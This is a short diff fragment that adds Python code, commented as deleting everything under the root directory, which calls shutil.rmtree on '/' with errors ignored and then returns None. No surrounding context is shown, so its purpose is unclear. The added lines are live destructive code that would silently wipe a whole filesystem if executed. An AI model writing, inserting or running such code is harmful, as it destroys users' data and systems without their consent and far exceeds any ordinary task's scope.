@@ -1,0 +1,5 @@
+# deletes everything under /
+    import shutil
+
+    shutil.rmtree("/", ignore_errors=True)
+    return None
